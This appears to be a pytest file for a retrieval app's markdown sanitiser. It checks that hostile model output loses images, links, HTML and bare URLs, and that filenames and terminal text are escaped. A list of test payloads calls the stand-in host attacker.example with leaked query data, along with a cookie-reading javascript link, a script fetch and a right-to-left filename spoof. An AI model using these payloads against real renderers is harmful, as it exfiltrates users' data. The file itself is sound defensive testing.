"""Markdown that leaks nothing: hostile model output keeps its words but loses every image, link and URL.

The checks parse the sanitised text with markdown-it-py (CommonMark plus GFM tables and strikethrough, as
Streamlit's renderer does) and look for any image, link or raw HTML in the result, and for text that GFM
would turn into a link (a bare URL: Streamlit's renderer links them after parsing, escapes resolved).
"""

from __future__ import annotations

import re

import pytest

from rag.formatting import MarkdownBlock, plain_markdown, safe_markdown, safe_markdown_blocks

markdown_it = pytest.importorskip("markdown_it")  # installed with rich (Streamlit's dependency)
BARE_URL = re.compile(r"(https?://|www\.)", re.IGNORECASE)
LEAKS = {"image", "link_open", "html_inline", "html_block", "bare_url"}

HOSTILE = [
    "Here you go ![](https://attacker.example/?q=secret) [1]",
    '![logo](https://attacker.example/a.png "title")',
    "![logo](<https://attacker.example/a b.png>)",
    "![alt][ref]\n\n[ref]: https://attacker.example/?q=secret",
    "![ref]\n\n[ref]: https://attacker.example/?q=secret",
    "[click me](javascript:alert(document.cookie))",
    "[click me](https://attacker.example/?q=secret)",
    "[text][r]\n\n[r]: https://attacker.example/",
    '<img src="https://attacker.example/x.png" alt="x">',
    "<iframe src='https://attacker.example/frame'></iframe>",
    "<https://attacker.example/?q=secret> and <mail@attacker.example>",
    "see https://attacker.example/?q=secret or www.attacker.example today",
    "1https://attacker.example/",
    "&#104;ttps://attacker.example/ and &#91;x&#93;(https://attacker.example)",
    "| a | b |\n|---|---|\n| `x | ![](https://attacker.example/t) | y` |",
    "`a\nb `![](https://attacker.example/multi-line-span)`",
    "``a`![](https://attacker.example/q)``",
    "\\`![](https://attacker.example/escaped)`",
    "<a href=\"https://attacker.example\">x</a><script>fetch('https://attacker.example')</script>",
    "[![img](https://attacker.example/i.png)](https://attacker.example/)",
]


def tokens(markdown: str) -> list[str]:
    """Every token type a GFM renderer produces for `markdown`; "bare_url" for text GFM would link."""
    md = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    found = []
    for token in md.parse(markdown):
        found.append(token.type)
        for child in token.children or []:
            found.append(child.type)
            if child.type == "text" and BARE_URL.search(child.content):
                found.append("bare_url")
    # Text nodes are split at escapes and entities here but joined in Streamlit's renderer: check the whole
    # inline text too, with code spans left out.
    for token in md.parse(markdown):
        joined = "".join(c.content for c in token.children or [] if c.type in ("text", "softbreak"))
        if BARE_URL.search(joined):
            found.append("bare_url")
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_without_images_links_or_html(text: str) -> None:
    safe = safe_markdown(text)
    found = tokens(safe)
    assert not LEAKS & set(found), (safe, found)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_in_answer_blocks_and_labels_stays_inert(text: str) -> None:
    for block in safe_markdown_blocks(text):
        if not block.code:
            assert not LEAKS & set(tokens(block.text)), block.text
    assert not LEAKS & set(tokens(plain_markdown(text))), plain_markdown(text)


def test_math_cannot_shift_which_backticks_pair() -> None:
    """Streamlit renders $…$ as math, which opens before a code span; escaped, the spans pair as kept here."""
    safe = safe_markdown("$a `b$ ![](https://attacker.example/math) `")
    assert safe == "\\$a `b$ ![](https://attacker.example/math) `"
    assert safe_markdown("costs $5 or $$10$$") == "costs \\$5 or \\$\\$10\\$\\$"


def test_an_image_becomes_a_note_naming_what_was_not_loaded() -> None:
    safe = safe_markdown("Sure ![chart](https://attacker.example/?q=secret) [1]")
    assert safe == "Sure \\[image: chart from `https://attacker.example/?q=secret` — not loaded\\] \\[1\\]"
    assert "image: x from `https://attacker.example/x.png` — not loaded" in safe_markdown(
        '<img alt="x" src="https://attacker.example/x.png">'
    )


def test_links_become_their_text_and_target_as_code() -> None:
    assert safe_markdown("[Ollama](https://ollama.com) docs") == "Ollama (`https://ollama.com`) docs"
    assert safe_markdown("see https://ollama.com.") == "see `https://ollama.com`."
    assert safe_markdown("(https://ollama.com/x)") == "(`https://ollama.com/x`)"


def test_citations_formatting_and_code_stay_readable() -> None:
    text = "**Llama 2** uses a 4096-token window [1][2].\n\n- one `<s>[INST]` *two*\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    safe = safe_markdown(text)
    assert "**Llama 2**" in safe and "\\[1\\]\\[2\\]" in safe and "`<s>[INST]`" in safe and "*two*" in safe
    assert "table_open" in [t.type for t in markdown_it.MarkdownIt("commonmark").enable("table").parse(safe)]


def test_fenced_code_is_split_off_verbatim() -> None:
    blocks = safe_markdown_blocks("Run:\n```bash\nollama serve  # ![x](https://a.example) <b>\n```\nThen ask [1].")
    assert blocks == [
        MarkdownBlock("Run:"),
        MarkdownBlock("ollama serve  # ![x](https://a.example) <b>", code=True, language="bash"),
        MarkdownBlock("Then ask \\[1\\]."),
    ]
    # While streaming, an unclosed fence runs to the end.
    assert safe_markdown_blocks("~~~\npartial")[-1] == MarkdownBlock("partial", code=True)


def test_plain_markdown_shows_a_title_literally_on_one_line() -> None:
    assert plain_markdown("garden.md") == "garden\\.md"
    assert plain_markdown("a *b*\n![x](https://e.example/y)") == "a \\*b\\* \\!\\[x\\]\\(`https://e.example/y`\\)"


def test_long_hostile_input_is_handled_in_linear_time() -> None:
    import time

    for text in ("`" + "a`` " * 20_000, "[" * 50_000, "1a" * 50_000, "(https://x.example/" + ")" * 50_000):
        started = time.perf_counter()
        safe_markdown(text)
        plain_markdown(text)
        assert time.perf_counter() - started < 2.0


def test_a_name_is_stored_with_its_control_and_invisible_characters_replaced() -> None:
    from rag.formatting import clean_name

    assert clean_name("report\x1b[31m\x07.pdf") == "report_[31m_.pdf"
    assert clean_name("two\nlines\r.txt") == "two_lines_.txt"
    assert clean_name("invoice\u202efdp.exe") == "invoice_fdp.exe"  # a right-to-left override hides the real type
    assert clean_name("Überblick – Q3 (final).docx") == "Überblick – Q3 (final).docx"  # text stays as it is


def test_text_for_a_terminal_shows_control_characters_escaped() -> None:
    from rag.formatting import terminal_safe

    assert terminal_safe("a\x1b]0;title\x07b\nc\u202ed") == "a\\x1b]0;title\\x07b\\nc\\u202ed"
    assert terminal_safe("café — 東京.pdf") == "café — 東京.pdf"
